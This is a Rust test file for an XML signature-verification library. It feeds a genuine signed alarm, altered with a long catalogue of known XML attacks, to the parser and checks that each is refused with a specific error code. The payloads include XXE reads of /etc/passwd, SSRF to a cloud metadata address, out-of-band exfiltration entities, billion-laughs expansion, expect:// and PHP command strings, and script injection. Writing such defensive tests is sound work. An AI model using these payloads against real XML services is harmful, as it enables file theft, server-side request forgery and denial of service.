//! The attacks on XML that are publicly known, tried on a genuine alarm: each class in its usual forms, and the code that
//! each form earns. Nothing is fetched, expanded or guessed; nothing is read in another encoding than UTF-8.

use std::time::{Duration, Instant};

use paysign::{AppKey, alarm, feedback, native_package};

const APP_ID: &str = "wxf8b4f85f3a794e77";

fn app_key() -> AppKey {
    AppKey::new("0123456789abcdef".repeat(8)).expect("a key")
}

fn genuine() -> String {
    let fields =
        [("ErrorType", "1001"), ("Description", "late"), ("AlarmContent", "content"), ("TimeStamp", "1393860740")];
    alarm::sign_test(&fields, APP_ID, &app_key()).expect("an alarm")
}

/// The code, if the body is refused by each function that reads one, in less than the time nobody would notice.
#[track_caller]
fn refused(name: &str, body: &[u8]) -> &'static str {
    let keys = [app_key()];
    let start = Instant::now();
    let error = alarm::verify(body, APP_ID, &keys).expect_err(name);
    assert!(feedback::verify(body, APP_ID, &keys).is_err(), "{name}");
    assert!(native_package::verify_request(body, APP_ID, &keys).is_err(), "{name}");
    // Tens of microseconds; the rest is for a busy machine.
    assert!(start.elapsed() < Duration::from_millis(500), "{name} took {:?}", start.elapsed());
    error.code().as_str()
}

#[test]
fn every_public_attack_is_refused() {
    let body = genuine();
    let late = "<![CDATA[late]]>";
    let set = |from: &str, to: &str| {
        assert!(body.contains(from), "{from}");
        body.replacen(from, to, 1)
    };
    // A document type before the genuine alarm, which uses what it declares.
    let dtd = |declaration: &str| format!("<!DOCTYPE xml {declaration}>{}", set(late, "&e;"));
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10)))
        .collect::<Vec<_>>()
        .concat();
    let declared = |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{body}");

    let doctype = "XML_DOCTYPE";
    let (tag, markup, reference, root) = ("XML_TAG", "XML_MARKUP", "XML_REFERENCE", "XML_ROOT");
    let rows: &[(&str, String, &str)] = &[
        // External entities.
        ("a file", dtd("[<!ENTITY e SYSTEM \"file:///etc/passwd\">]"), doctype),
        ("a file of Windows", dtd("[<!ENTITY e SYSTEM \"file:///c:/boot.ini\">]"), doctype),
        ("a relative file", dtd("[<!ENTITY e SYSTEM \"../../../../etc/passwd\">]"), doctype),
        ("an endless file", dtd("[<!ENTITY e SYSTEM \"file:///dev/random\">]"), doctype),
        ("a URL", dtd("[<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]"), doctype),
        ("a public identifier", dtd("[<!ENTITY e PUBLIC \"-//X\" \"https://host.invalid/\">]"), doctype),
        ("a jar", dtd("[<!ENTITY e SYSTEM \"jar:http://host.invalid/a.zip!/a\">]"), doctype),
        (
            "netdoc, gopher",
            dtd("[<!ENTITY e SYSTEM \"netdoc:///etc/passwd\"><!ENTITY f SYSTEM \"gopher://a\">]"),
            doctype,
        ),
        ("expect", dtd("[<!ENTITY e SYSTEM \"expect://id\">]"), doctype),
        ("a filter of PHP", dtd("[<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/a\">]"), doctype),
        ("a data URL", dtd("[<!ENTITY % e SYSTEM \"data://text/plain;base64,PCFFTlRJVFk+\">%e;]"), doctype),
        ("an unparsed entity", dtd("[<!NOTATION n SYSTEM \"n\"><!ENTITY e SYSTEM \"a\" NDATA n>]"), doctype),
        (
            "an entity that is declared and not used",
            format!("<!DOCTYPE xml [<!ENTITY e SYSTEM \"a\">]>{body}"),
            doctype,
        ),
        ("an attribute's default", format!("<!DOCTYPE xml [<!ATTLIST AppId a CDATA \"b\">]>{body}"), doctype),
        // Parameter entities and external subsets.
        ("an external subset", dtd("SYSTEM \"http://host.invalid/evil.dtd\""), doctype),
        ("a public subset", dtd("PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://host.invalid/x.dtd\""), doctype),
        ("a parameter entity", dtd("[<!ENTITY % p SYSTEM \"http://host.invalid/evil.dtd\"> %p; %q;]"), doctype),
        (
            "out of band",
            dtd("[<!ENTITY % f SYSTEM \"file:///a\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM 'http://b/?%f;'>\">%d;%s;]"),
            doctype,
        ),
        (
            "by the error of a local subset",
            dtd("[<!ENTITY % l SYSTEM \"file:///usr/share/x.dtd\"><!ENTITY % c '&#x25;error;'>%l;]"),
            doctype,
        ),
        ("a conditional section", dtd("[<![INCLUDE[<!ENTITY e \"x\">]]>]"), doctype),
        // Expansion.
        ("billion laughs", dtd(&format!("[<!ENTITY e0 \"ha\">{laughs}<!ENTITY e \"&e9;\">]")), doctype),
        ("quadratic", dtd(&format!("[<!ENTITY e \"{}\">]", "a".repeat(20_000))) + &"&e;".repeat(10_000), doctype),
        ("recursion", dtd("[<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">]"), doctype),
        ("a redefined entity", dtd("[<!ENTITY lt \"&#38;#60;\"><!ENTITY e \"&lt;\">]"), doctype),
        ("only the laughs", set(late, &"&lol9;".repeat(5_000)), reference),
        // Where a document type may stand elsewhere.
        ("doctype after the declaration", format!("<?xml version=\"1.0\"?>\n<!DOCTYPE xml>{body}"), doctype),
        ("doctype in lower case", format!("<!doctype xml>{body}"), doctype),
        ("doctype in the root", set("<ErrorType>", "<!DOCTYPE xml><ErrorType>"), doctype),
        ("doctype in a value", set(late, "<!DOCTYPE xml>late"), doctype),
        ("doctype after the root", body.clone() + "<!DOCTYPE xml>", doctype),
        ("doctype hides the root", format!("<!DOCTYPE xml [<!ENTITY e \"<xml>\">]>{body}"), doctype),
        ("doctype that is not closed", format!("<!DOCTYPE xml [{body}"), "XML_DOCTYPE"),
        ("doctype after a comment", format!("<!----><!DOCTYPE xml>{body}"), markup),
        ("an entity without a doctype", set("<ErrorType>", "<!ENTITY e \"x\"><ErrorType>"), markup),
        ("a parameter reference", set("<ErrorType>", "%e;<ErrorType>"), "XML_TEXT"),
        ("a predefined entity of HTML", set(late, "&nbsp;late"), reference),
        // Inclusion and other vocabularies.
        (
            "XInclude",
            set(late, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///a\"/>"),
            tag,
        ),
        ("XInclude with content", set(late, "<xi:include href=\"a\"></xi:include>"), markup),
        ("XSLT", format!("<?xml-stylesheet href=\"http://host.invalid/a.xsl\"?>{body}"), markup),
        ("XSLT as the root", "<xsl:stylesheet version=\"1.0\"/>".to_owned(), tag),
        ("a PHP script", set(late, "<?php system('id'); ?>late"), markup),
        ("SVG", format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{body}</svg>"), root),
        ("SVG in a value", set(late, "<svg><image href=\"expect://ls\"></image></svg>"), markup),
        ("HTML in a value", set(late, "<script>alert(1)</script>"), markup),
        ("schemaLocation", set("<xml>", "<xml xsi:schemaLocation=\"urn:a http://host.invalid/a.xsd\">"), root),
        // Wrapping.
        ("SOAP", format!("<soap:Envelope><soap:Body>{body}</soap:Body></soap:Envelope>"), root),
        ("SOAP inside", set("<xml>", "<xml><soap:Body>").replace("</xml>", "</soap:Body></xml>"), tag),
        ("the alarm in an alarm", body.replace("</xml>", &format!("{body}</xml>")), markup),
        ("the alarm in a value", set(late, &body), markup),
        ("a second root", body.clone() + &body, "XML_TRAILING"),
        ("a second root before", format!("<xml></xml>{body}"), "XML_TRAILING"),
        ("a wrapper of one field", set("<ErrorType>1001</ErrorType>", "<a><ErrorType>1001</ErrorType></a>"), markup),
        // Comments that split a value, as they did in SAML.
        ("a comment in a number", set("1001", "10<!---->01"), markup),
        ("a comment in the account", set("wxf8b4f85f3a794e77", "wxf8b4f85f3a794e77]]><!----><![CDATA[.evil"), markup),
        ("a comment in the signature", set("<AppSignature>", "<AppSignature><!-- -->"), markup),
        ("a comment that holds a field", set("<ErrorType>", "<!--<ErrorType>1</ErrorType>--><ErrorType>"), markup),
        ("a comment with two hyphens", set("<ErrorType>", "<!-- -- --><ErrorType>"), markup),
        ("a comment that is not closed", set("<ErrorType>", "<!-- <ErrorType>"), markup),
        ("an instruction in a value", set("1001", "10<?x?>01"), markup),
        // CDATA.
        ("CDATA not closed", set("]]></Description>", "</Description>"), tag),
        ("CDATA in lower case", set(late, "<![cdata[late]]>"), markup),
        ("CDATA with a space", set(late, "<![CDATA [late]]>"), markup),
        ("CDATA cut off", body.split("DATA[late").next().unwrap_or_default().to_owned(), "XML_TRUNCATED"),
        ("CDATA closed twice", set(late, "<![CDATA[late]]>]]>"), "XML_TEXT"),
        ("CDATA in CDATA", set(late, "<![CDATA[<![CDATA[late]]>]]>"), "XML_TEXT"),
        (
            "CDATA around a field",
            set("<ErrorType>1001</ErrorType>", "<![CDATA[<ErrorType>1</ErrorType>]]>"),
            "XML_TEXT",
        ),
        ("CDATA around the end", body.replace("</xml>", "<![CDATA[</xml>]]>"), "XML_TEXT"),
        ("CDATA after the end", body.clone() + "<![CDATA[]]>", "XML_TRAILING"),
        ("script out of CDATA", set(late, "<![CDATA[<]]>script<![CDATA[>]]>"), "SIGNATURE_MISMATCH"),
        // Namespaces.
        ("a prefix", set("<AppId>", "<n:AppId>").replacen("</AppId>", "</n:AppId>", 1), tag),
        ("a declared prefix", set("<xml>", "<xml xmlns:n=\"urn:n\">"), root),
        ("a default namespace", set("<AppId>", "<AppId xmlns=\"urn:n\">"), tag),
        ("two of one local name", set("<AppId>", "<n:AppId>x</n:AppId><AppId>"), tag),
        ("an empty prefix", set("<AppId>", "<:AppId>"), tag),
        ("the reserved prefix", set("<AppId>", "<xml:AppId>"), tag),
        // Two elements, spellings, attributes.
        ("twice, first other", set("<ErrorType>", "<ErrorType>9</ErrorType><ErrorType>"), "FIELD_DUPLICATE"),
        ("twice, last other", set("</ErrorType>", "</ErrorType><ErrorType>9</ErrorType>"), "FIELD_DUPLICATE"),
        ("another letter case", set("<ErrorType>", "<ERRORTYPE>9</ERRORTYPE><ErrorType>"), "FIELD_UNKNOWN"),
        ("a homograph", set("<AppId>", "<АppId>x</АppId><AppId>"), tag),
        ("the prototype", set("<AppId>", "<constructor>x</constructor><AppId>"), "FIELD_UNKNOWN"),
        ("the prototype, underscored", set("<AppId>", "<__proto__>x</__proto__><AppId>"), tag),
        ("an attribute", set("<ErrorType>", "<ErrorType value=\"9\">"), tag),
        ("an attribute with a tag", set("<ErrorType>", "<ErrorType a=\"></ErrorType>\">"), tag),
        ("a reference to a tag", set("<ErrorType>", "&lt;ErrorType>"), "XML_TEXT"),
        ("a line end in a tag", set("<ErrorType>", "<ErrorType\n>"), tag),
        ("an end tag with more", set("</ErrorType>", "</ErrorType a=\"b\">"), tag),
        // References.
        ("NUL", set(late, "&#0;"), "XML_FORBIDDEN_CHARACTER"),
        ("half a surrogate pair", set(late, "&#xD83D;&#xDE00;"), "XML_FORBIDDEN_CHARACTER"),
        ("beyond Unicode", set(late, "&#x110000;"), "XML_FORBIDDEN_CHARACTER"),
        ("a number that wraps", set(late, "&#4294967393;"), "XML_FORBIDDEN_CHARACTER"),
        ("a very long number", set(late, &format!("&#{}65;", "9".repeat(40))), "XML_FORBIDDEN_CHARACTER"),
        ("a reference without an end", set(late, "&amp"), reference),
        ("a reference with a space", set(late, "&amp ;"), reference),
        ("a reference in upper case", set(late, "&LT;"), reference),
        ("a reference with digits of another script", set(late, "&#٦٥;"), reference),
        ("a reference to a reference", set("1001", "&#38;#49;001"), "FIELD_MALFORMED"),
        // Encodings.
        ("UTF-7", declared("UTF-7"), "XML_DECLARATION"),
        (
            "UTF-7 with a doctype",
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-+ACE-DOCTYPE xml+AFs-+ADw-+AD4-".to_owned(),
            "XML_DECLARATION",
        ),
        ("UTF-7 that is not declared", "+ADw-xml+AD4-+ADw-/xml+AD4-".to_owned(), root),
        ("UTF-16 that is declared", declared("UTF-16"), "XML_DECLARATION"),
        ("EBCDIC", declared("IBM037"), "XML_DECLARATION"),
        ("Latin 1", declared("ISO-8859-1"), "XML_DECLARATION"),
        ("GB 18030", declared("GB18030"), "XML_DECLARATION"),
        ("an encoding and its alias", declared("utf8"), "XML_DECLARATION"),
        ("two encodings", declared("UTF-8\" encoding=\"GBK"), "XML_DECLARATION"),
        ("version 1.1", body.replacen("<xml>", "<?xml version=\"1.1\"?><xml>", 1), "XML_DECLARATION"),
        ("a byte order mark", format!("\u{FEFF}{body}"), root),
        ("NEL as white space", set("<ErrorType>", "\u{85}<ErrorType>"), "XML_TEXT"),
        ("a line separator as white space", set("<ErrorType>", "\u{2028}<ErrorType>"), "XML_TEXT"),
        // Size.
        ("depth", format!("<xml>{}", "<a>".repeat(20_000)), markup),
        ("a long name", format!("<xml><{}>", "a".repeat(60_000)), "XML_TRUNCATED"),
        ("attributes", format!("<xml><a {}>", "b=\"\" ".repeat(10_000)), tag),
        ("sections", set(late, &"<![CDATA[]]>".repeat(5_000)), "SIGNATURE_MISMATCH"),
        ("references", set(late, &"&#97;".repeat(12_000)), "SIGNATURE_MISMATCH"),
        ("white space", format!("{}x{body}", " ".repeat(64_000)), root),
        ("brackets", set(late, &format!("<![CDATA[{}", "]".repeat(60_000))), tag),
        ("ampersands", set(late, &"&".repeat(60_000)), reference),
        ("tags that do not end", format!("<xml>{}", "<".repeat(60_000)), "XML_TRUNCATED"),
    ];
    let wrong: Vec<_> = rows
        .iter()
        .map(|(name, attack, expected)| (name, refused(name, attack.as_bytes()), expected))
        .filter(|(_, found, expected)| found != *expected)
        .collect();
    assert!(wrong.is_empty(), "name, found, expected: {wrong:#?}");
}

/// The same documents as other bytes: whatever a parser would guess from them, none is UTF-8 text that starts with `<`.
#[test]
fn every_other_encoding_of_a_genuine_alarm_is_refused() {
    let body = genuine();
    let with_dtd = format!("<!DOCTYPE xml [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{body}");
    let units = |text: &str, order: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(order).collect::<Vec<u8>>();
    let wide = |text: &str, order: fn(u32) -> [u8; 4]| {
        text.chars().flat_map(|char| order(u32::from(char))).collect::<Vec<u8>>()
    };
    for text in [&body, &with_dtd] {
        let rows = [
            ("UTF-16 BE", units(text, u16::to_be_bytes)),
            ("UTF-16 LE", units(text, u16::to_le_bytes)),
            ("UTF-32 BE", wide(text, u32::to_be_bytes)),
            ("UTF-32 LE", wide(text, u32::to_le_bytes)),
        ];
        for (name, bytes) in rows {
            // ASCII between NUL bytes is UTF-8, and NUL is not a character of XML.
            assert_eq!(refused(name, &bytes), "XML_FORBIDDEN_CHARACTER", "{name}");
            let marked = [units("\u{FEFF}", u16::to_be_bytes), bytes].concat();
            assert_eq!(refused(name, &marked), "XML_NOT_UTF8", "{name} with a mark");
        }
    }
    let overlong = body.replace("<ErrorType>", "\u{0}");
    let overlong: Vec<u8> =
        overlong.bytes().flat_map(|byte| if byte == 0 { vec![0xC0, 0xBC] } else { vec![byte] }).collect();
    assert_eq!(refused("an overlong <", &overlong), "XML_NOT_UTF8");
    let cesu = [body.as_bytes(), b"\xED\xA0\xBD\xED\xB8\x80"].concat();
    assert_eq!(refused("CESU-8", &cesu), "XML_NOT_UTF8");
    assert_eq!(refused("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00"), "XML_NOT_UTF8");
}
